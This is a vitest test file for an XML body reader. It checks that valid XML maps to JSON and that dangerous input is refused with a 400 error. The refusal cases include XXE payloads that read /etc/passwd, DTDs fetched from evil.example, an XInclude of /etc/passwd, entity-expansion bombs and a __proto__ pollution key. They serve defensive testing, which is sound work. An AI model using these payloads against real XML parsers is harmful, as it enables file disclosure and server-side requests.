// What clients may send in XML, and what is refused: more than the mapping needs is never taken.
import { count, listOf, objectOf, string } from "@isotrail/contracts/schema";
import { Problem } from "@isotrail/http";
import { describe, expect, it } from "vitest";
import { isXml, jsonOf } from "./xml-body.ts";
import { readXml } from "./xml-reader.ts";

const MIB = 1024 * 1024;
const read = (xml: string) => readXml(Buffer.from(xml));
const refusal = (xml: string | Buffer): Promise<Problem> =>
  readXml(Buffer.from(xml)).then(
    (value) => Promise.reject(new Error(`it was taken: ${JSON.stringify(value)}`)),
    (error) => error,
  );
const XSI = 'xmlns:xsi="http://www.w3.org/2001/XMLSchema-instance"';

describe("a body in XML", () => {
  it.each<[string, unknown]>([
    ["<sample><sampleName>a</sampleName></sample>", { sampleName: "a" }],
    ['\ufeff<?xml version="1.0" encoding="utf-8"?>\n<!-- a --><x> <a> b </a>\n</x> <!-- b -->', { a: " b " }],
    ["<x><a>1</a><b/><c></c></x>", { a: "1", b: "", c: "" }],
    ["<x><a>&lt;&#65;&#x1F9EC;<![CDATA[<b>&amp;]]></a></x>", { a: "<A\u{1f9ec}<b>&amp;" }],
    [`<x ${XSI}><a xsi:nil="true"/><b xsi:type="integer"> 5 </b></x>`, { a: null, b: 5 }],
    [
      `<x ${XSI} xmlns:s="http://www.w3.org/2001/XMLSchema"><b xsi:type="s:boolean">0</b><c xsi:type="s:double">1e3</c></x>`,
      { b: false, c: 1000 },
    ],
    ['<x><entry key="a b"><value>1</value><type>text</type></entry></x>', { "a b": { value: "1", type: "text" } }],
    ["<x><ids><entry>1</entry><entry>2</entry></ids></x>", { ids: ["1", "2"] }],
    ["<x><entry>1</entry></x>", ["1"]],
    ["<x/>", {}],
    [`<x ${XSI} xsi:noNamespaceSchemaLocation="schema.xsd" xsi:type="sample"><a>1</a></x>`, { a: "1" }],
  ])("%s is read", async (xml, value) => expect(await read(xml)).toEqual(value));

  it("makes no prototype of what is called so", async () => {
    const value = await read("<x><__proto__><admin>1</admin></__proto__></x>");
    expect(Object.getPrototypeOf(value)).toBe(Object.prototype);
    expect(JSON.stringify(value)).toBe('{"__proto__":{"admin":"1"}}');
  });

  it("is read the same however it is cut", async () => {
    const text = "\u{1f9ec}\r\n&amp;".repeat(40_000);
    expect(await read(`<x><a>${text}</a></x>`)).toEqual({ a: "\u{1f9ec}\n&".repeat(40_000) });
  });
});

describe("refused, with where and why", () => {
  it.each([
    ['<!DOCTYPE x [<!ENTITY a "aaa"><!ENTITY b "&a;&a;">]><x>&b;</x>', "a DOCTYPE is not taken"],
    ['<!DOCTYPE x [<!ENTITY e SYSTEM "file:///etc/passwd">]><x>&e;</x>', "a DOCTYPE is not taken"],
    ['<!DOCTYPE x [<!ENTITY % p SYSTEM "http://evil.example/"> %p;]><x/>', "a DOCTYPE is not taken"],
    ['<!DOCTYPE x SYSTEM "http://evil.example/x.dtd"><x/>', "a DOCTYPE is not taken"],
    ["<x>&nbsp;</x>", "undefined entity"],
    ["<x>&#0;</x>", "malformed character entity"],
    ["<x>&#xD800;</x>", "malformed character entity"],
    ["<x>\0</x>", "disallowed character"],
    ["<x>\u0001</x>", "disallowed character"],
    ['<?xml-stylesheet href="x.xsl"?><x/>', "processing instructions are not taken"],
    ["<x><?php 1 ?></x>", "processing instructions are not taken"],
    ['<?xml version="1.1"?><x>&#1;</x>', "only XML 1.0 is taken"],
    ['<?xml version="1.0" encoding="UTF-7"?><x>+ADw-</x>', "only the encoding UTF-8 is taken"],
    ['<?xml version="1.0" encoding="UTF-16"?><x/>', "only the encoding UTF-8 is taken"],
    ["<x><a>1</a><a>2</a></x>", "a stands twice"],
    ['<x><a>1</a><entry key="a">2</entry></x>', "a stands twice"],
    ["<x>text<a/></x>", "an element has both text and elements"],
    ["<x><entry>1</entry><a/></x>", "an element has both entries without a key and others"],
    ['<x a="1"/>', "the attribute a is not known"],
    ['<x><a key="b"/></x>', "only an entry has a key"],
    ['<x xmlns="urn:other"/>', "the element x is of another namespace"],
    ['<x><i:include xmlns:i="http://www.w3.org/2001/XInclude" href="file:///etc/passwd"/></x>', "of another namespace"],
    [`<x ${XSI}><a xsi:type="integer">1.5</a></x>`, 'this is no integer: "1.5"'],
    [`<x ${XSI}><a xsi:nil="true">1</a></x>`, "an element that is nil has content"],
    [`<x ${XSI} xmlns:o="urn:other"><a xsi:type="o:integer">1</a></x>`, "the type o:integer is not known"],
    ['<x><a empty="list" empty="map"/></x>', "duplicate attribute"],
    ["<x></y>", "unexpected close tag"],
    ["<x>", "unclosed tag: x"],
    ["<x/><y/>", "documents may contain only one root"],
    ["<x/>text", "text data outside of root node"],
    ["", "document must contain a root element"],
    ['{"sampleName":"a"}', "text data outside of root node"],
  ])("%s", async (xml, why) => {
    const problem = await refusal(xml);
    expect(problem).toBeInstanceOf(Problem);
    expect(problem.status).toBe(400);
    expect(problem.message).toMatch(/^The body is not XML as it is taken here: line \d+, column \d+: .*\.$/);
    expect(problem.message).toContain(why);
  });

  it.each<[string, string, string]>([
    ["100,000 elements in each other", "<a>".repeat(100_000), "more than 32 deep"],
    ["90,000 attributes", `<a ${Array.from({ length: 90_000 }, (_, n) => `a${n}=""`).join(" ")}/>`, "more than 32"],
    ["an attribute of a mebibyte", `<a key="${"x".repeat(MIB)}"/>`, "only an entry has a key"],
    ["90,000 declared entities", `<!DOCTYPE a [${"<!ENTITY a 'b'>".repeat(70_000)}]><a/>`, "a DOCTYPE"],
    ["a mebibyte of brackets", "<".repeat(MIB), "disallowed character in tag name"],
  ])("%s, before they do harm", async (_, xml, why) => {
    expect((await refusal(xml)).message).toContain(why);
  });

  it("bytes that are not UTF-8", async () => {
    for (const bytes of [
      Buffer.from([0xff, 0xfe, 0x3c, 0x00]),
      Buffer.from("3c613ec0af3c2f613e", "hex"),
      Buffer.from("<a/>", "latin1").fill(0xe9, 1, 2),
    ])
      expect((await refusal(bytes)).message).toContain("these bytes are not UTF-8");
    expect((await refusal(Buffer.from("<a/>", "utf16le"))).message).toContain("disallowed character");
  });
});

describe("as JSON", () => {
  const schema = objectOf({
    name: string,
    size: count,
    on: { type: "boolean" },
    parts: listOf(objectOf({ n: count })),
  });
  const json = async (xml: string) => (await jsonOf(Buffer.from(xml), schema)).toString();

  it("texts are what the resource says that they are", async () => {
    const xml =
      "<x><name>5</name><size>5</size><on>true</on><parts><entry><n>-1.5e1</n></entry></parts><more>5</more></x>";
    expect(await json(xml)).toBe('{"name":"5","size":5,"on":true,"parts":[{"n":-15}],"more":"5"}');
    expect(await json("<x><size>05</size><on>yes</on><parts/></x>")).toBe('{"size":"05","on":"yes","parts":[]}');
  });

  it("is told by the type, in UTF-8 only", () => {
    expect(["application/xml", "text/xml; charset=UTF-8", 'Application/XML;charset="utf-8"'].map(isXml)).not.toContain(
      false,
    );
    expect([undefined, "application/json", "application/xhtml+xml"].map(isXml)).not.toContain(true);
    expect(() => isXml("text/xml; charset=utf-16")).toThrow(Problem);
  });
});
